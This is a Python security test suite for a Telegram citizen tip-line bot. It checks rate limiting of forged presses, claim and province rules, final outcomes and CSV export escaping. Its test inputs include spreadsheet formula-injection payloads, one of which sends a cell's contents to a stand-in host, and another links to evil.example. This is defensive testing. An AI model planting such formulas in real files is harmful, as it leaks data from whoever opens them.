"""Threat: the staff side misused from inside and from outside.

Who attacks: anyone who can press a button (a citizen forging staff presses from a private chat, to cost the
line a Telegram call and a permanent audit row each); a moderator acting on a colleague's claimed tip, or
forwarding a tip to a unit of another province; a police unit forging an outcome that is not one of the
outcomes, or changing one that is final; a unit that keeps a reopened tip; a removed moderator who stays in
the group; whoever writes an outcome that a spreadsheet would run as a formula.

What must hold: a per-person limit before any lookup, membership asked of Telegram at most once in a while,
and repeated refusals coalesced into one audit row; the claim rule covers every action that changes a tip
(an admin may override, audited as the admin); forwarding outside the tip's province needs an admin;
outcomes are a closed set and a closed outcome is final; reopening takes the tip away from its unit;
/removemod also takes the person out of the moderators' group; every CSV cell that starts with = + - @, a
tab or a carriage return is written so that it stays text.
"""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from backends import use_database
from botapi import FakeBotApi
from harness import SECRET
from security_world import BINH_ID, NOT_ALLOWED_VI, POLICE, World, buttons_data, staff_world, submit, vi

from tipline.cli import main as cli_main
from tipline.i18n import translator
from tipline.records.reports import csv_cell, to_csv
from tipline.staff.cards import withdrawn_card

CLAIMED = vi("Another moderator has claimed this tip.")


@pytest.fixture
async def world(api: FakeBotApi, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[World]:
    async with staff_world(api, tmp_path, monkeypatch) as w:
        yield w


async def test_three_hundred_forged_presses_cost_a_couple_of_calls_and_audit_rows(api: FakeBotApi, world: World) -> None:
    lan = world.citizen("Lan")
    code, _ = await submit(lan)
    await world.card(code)
    receipt = next(m for m in lan.user.inbox if code in (m.get("text") or ""))
    audit_before = len(await world.audit())
    members_before = len(api.calls("getChatMember"))
    answers_before = len(lan.user.callback_answers)

    # All at once, as a script would: the presses are queued before the bot handles the first.
    for n in range(300):
        await lan.user.press_raw(receipt["message_id"], ("2c|claim|new", "2c|spam|in_review", "2u|1", "2q|0")[n % 4])
    await world.bot.settle(timeout=60)
    await api.changes.until(lambda: len(lan.user.callback_answers) - answers_before >= 300, 10)

    answers = lan.user.callback_answers[answers_before:]
    assert len(answers) == 300 and {a.get("text") for a in answers} == {NOT_ALLOWED_VI}
    assert len(api.calls("getChatMember")) - members_before <= 2
    new_rows = (await world.audit())[audit_before:]
    # One row per kind of refusal (a card press, a queue page, too many presses), not one per press.
    assert 1 <= len(new_rows) <= 3 and {r.action for r in new_rows} == {"refused"}, new_rows
    assert all(r.at_text.startswith(world.clock().date().isoformat()) for r in new_rows), "on the line's clock"
    assert (await world.tip(code)).status == "new"

    # Ten minutes later the next refusal is written, with the count of those it stands for.
    world.clock.advance(minutes=11)
    await world.forge(lan.user, receipt["message_id"], "2c|claim|new")
    [later] = (await world.audit())[audit_before + len(new_rows):]
    assert later.action == "refused" and "more since the last entry" in later.detail


async def test_the_claim_covers_every_change_and_an_admin_override_is_audited_as_the_admin(
    api: FakeBotApi, world: World
) -> None:
    code, _ = await submit(world.citizen("Lan"), optin=True)
    await world.press(world.group, world.mai, await world.card(code), "claim")
    card = await world.card(code)
    before = await world.snapshot()
    priority = (await world.tip(code)).priority
    group_sent = len(world.group.chat.sent_log)
    for action in ("release", "raise", "lower", "ask", "spam", "duplicate", "forward", "choose_unit", "unfounded"):
        assert await world.press(world.group, world.binh, card, action) == CLAIMED, action
    assert await world.snapshot() == before, "no change, no prompt, no unit list"
    assert len(world.group.chat.sent_log) == group_sent and (await world.card(code))["text"] == card["text"]

    # An admin may override: the change is theirs on the record.
    assert await world.press(world.group, world.admin, card, "raise") == vi("Priority raised.")
    raised = (await world.audit("raise"))[-1]
    assert (raised.actor_role, raised.actor_id) == ("admin", await world.staff_id(world.admin))
    assert (await world.tip(code)).priority == priority + 1

    # Closed by Mai: Bình cannot reopen it; the admin can.
    await world.press(world.group, world.mai, await world.card(code), "unfounded")
    closed = await world.card(code)
    assert await world.press(world.group, world.binh, closed, "reopen") == CLAIMED
    assert (await world.tip(code)).status == "unfounded"
    await world.press(world.group, world.admin, closed, "reopen")
    await world.answer_prompt(world.group, world.admin, "Có thêm thông tin từ người dân")
    reopened = (await world.audit("reopen"))[-1]
    assert reopened.actor_role == "admin" and (await world.tip(code)).status == "in_review"


async def test_forwarding_to_another_provinces_unit_needs_an_admin(api: FakeBotApi, world: World) -> None:
    code, _ = await submit(world.citizen("Lan"))  # in Cần Thơ
    await world.press(world.group, world.mai, await world.card(code), "claim")
    await world.press(world.group, world.mai, await world.card(code), "choose_unit")
    listing = world.group.last
    assert listing is not None
    async with world.read() as uow:
        units = {unit.code: unit.id for unit in await uow.units.all()}
    offered = {int(d.split("|")[1]) for d in buttons_data(listing)}
    assert offered == {units["CA-NK"], units["CA-CR"]}, "only the tip's province is offered"

    refusal = await world.forge(world.group, listing["message_id"], f"2u|{units['CA-HK']}", world.mai)
    assert refusal == vi("Only an admin can forward a tip to a unit of another province.")
    assert (await world.tip(code)).unit_id is None and (await world.tip(code)).status == "in_review"

    await world.forge(world.group, listing["message_id"], f"2u|{units['CA-HK']}", world.admin)
    tip = await world.tip(code)
    assert (tip.status, tip.unit_id) == ("forwarded", units["CA-HK"])
    forwarded = (await world.audit("forward_to"))[-1]
    assert forwarded.actor_role == "admin" and forwarded.detail == f"unit {units['CA-HK']}"


async def test_outcomes_are_a_closed_set_and_final(api: FakeBotApi, world: World) -> None:
    await world.link_unit("CA-NK", POLICE)
    code, _ = await submit(world.citizen("Lan"), optin=True)
    await world.press(world.group, world.mai, await world.card(code), "claim")
    await world.press(world.group, world.mai, await world.card(code), "forward")
    await world.press(world.police, world.officer, await world.card(code, world.police), "acknowledge")
    card = await world.card(code, world.police)
    before = await world.snapshot()
    for data in (
        "2c|solved|acknowledged", "2c|outcome:arrested|acknowledged", "2c|=HYPERLINK(\"http://x\")|acknowledged",
        "2c|unfounded|acknowledged", "2c|spam|acknowledged", "2c|duplicate|acknowledged", "2c|verified",
    ):
        world.clock.advance(seconds=3)
        assert await world.forge(world.police, card["message_id"], data, world.officer) == NOT_ALLOWED_VI, data
    assert await world.snapshot() == before and (await world.tip(code)).outcome is None

    await world.press(world.police, world.officer, card, "verified")
    assert ((await world.tip(code)).status, (await world.tip(code)).outcome) == ("resolved", "verified")
    closed = (await world.snapshot())["tips"]
    recorded = translator("vi").gettext("Outcome recorded. Thank you.")
    for data in ("2c|not_verified|acknowledged", "2c|transferred|resolved", "2c|not_verified|resolved", "2c|acknowledge|resolved"):
        world.clock.advance(seconds=3)
        answer = await world.forge(world.police, card["message_id"], data, world.officer)
        assert answer and answer != recorded and "TL-" not in answer, (data, answer)
    assert (await world.snapshot())["tips"] == closed and (await world.tip(code)).outcome == "verified"
    unit_rows = [r.action for r in await world.audit() if r.tip_code == code and r.actor_role == "unit"]
    assert [a for a in unit_rows if a != "refused"] == ["acknowledge", "verified"] and "refused" in unit_rows


async def test_reopening_takes_the_tip_away_from_its_unit(api: FakeBotApi, world: World) -> None:
    await world.link_unit("CA-NK", POLICE)
    lan = world.citizen("Lan")
    code, _ = await submit(lan, optin=True)
    await world.press(world.group, world.mai, await world.card(code), "claim")
    await world.press(world.group, world.mai, await world.card(code), "forward")
    await world.press(world.police, world.officer, await world.card(code, world.police), "acknowledge")
    unit_card = await world.card(code, world.police)
    await world.press(world.group, world.mai, await world.card(code), "reopen")
    await world.answer_prompt(world.group, world.mai, "Người dân báo thêm địa điểm mới")
    assert ((await world.tip(code)).status, (await world.tip(code)).unit_id) == ("in_review", None)
    # The unit's card now says the tip was taken back, without its details or buttons.
    withdrawn = next(m for m in world.police.inbox if m["message_id"] == unit_card["message_id"])
    assert withdrawn["text"] == withdrawn_card(code).text and not withdrawn.get("reply_markup")

    # The unit cannot act on it any more, and hears nothing of what happens to it next.
    heard = len(world.police.chat.sent_log)
    before = await world.snapshot()
    for action in ("ask_more", "verified", "not_verified", "transferred", "acknowledge"):
        world.clock.advance(seconds=3)
        answer = await world.forge(world.police, unit_card["message_id"], f"2c|{action}|acknowledged", world.officer)
        assert answer == NOT_ALLOWED_VI
    assert await world.snapshot() == before
    await world.press(world.group, world.mai, await world.card(code), "ask")
    await world.answer_prompt(world.group, world.mai, "Địa điểm mới ở đâu?")
    await world.press(world.group, world.mai, await world.card(code), "raise")
    await world.settle()
    assert len(world.police.chat.sent_log) == heard


async def test_removemod_takes_the_moderator_out_of_the_group_at_once(api: FakeBotApi, world: World) -> None:
    code, _ = await submit(world.citizen("Lan"))
    card = await world.card(code)
    await world.press(world.group, world.binh, card, "raise")  # Bình acts as a member of the group
    await world.say(world.group, world.admin, f"/removemod {BINH_ID}")
    assert world.group.last is not None and world.group.last["text"] == vi("Done.")
    banned = [r for r in api.calls("banChatMember") if r.ok]
    unbanned = [r for r in api.calls("unbanChatMember") if r.ok]
    assert [r.arg("user_id") for r in banned] == [BINH_ID] and [r.arg("user_id") for r in unbanned] == [BINH_ID]
    assert world.group.status_of(world.binh) == "left"  # out, and not banned: an admin can add him back later
    removed = (await world.audit("moderator_removed"))[-1]
    assert removed.actor_role == "admin"

    world.group.add(world.binh)  # added back by someone: the admin's removal still stands, at once
    before = await world.snapshot()
    assert await world.press(world.group, world.binh, await world.card(code), "lower") == NOT_ALLOWED_VI
    assert await world.snapshot() == before


def test_csv_cells_that_a_spreadsheet_would_run_stay_text() -> None:
    for dangerous in ("=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "+84 cmd", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"):
        assert csv_cell(dangerous) == "'" + dangerous
    for harmless in ("verified", "Cần Thơ", "TL-2345-6789", "a=b", ""):
        assert csv_cell(harmless) == harmless
    assert csv_cell(None) == "" and csv_cell(-3) == -3 and csv_cell(1.5) == 1.5


async def test_an_export_neutralises_formulas_in_every_cell(
    api: FakeBotApi, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, _ = await submit(world.citizen("Lan"))
    await world.press(world.group, world.mai, await world.card(code), "claim")
    await world.press(world.group, world.mai, await world.card(code), "unfounded")
    # A row written before outcomes were a closed set (or by hand): the export must still be safe.
    tip = await world.tip(code)
    async with world.core.storage.uow() as uow:
        await uow.tips.update(tip.id, outcome='=HYPERLINK("http://evil.example","Mở")')
    export = tmp_path / "out" / "export.csv"
    use_database(monkeypatch, world.bot.db_path)
    monkeypatch.setenv("TIPLINE_SECRET_KEY", SECRET)
    assert await asyncio.to_thread(cli_main, ["export", "--period", "2026-11", "--output", str(export)]) == 0
    rows = list(csv.reader(io.StringIO(export.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=HYPERLINK(\"http://evil.example\",\"Mở\")" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert to_csv([]).startswith("\ufeff")
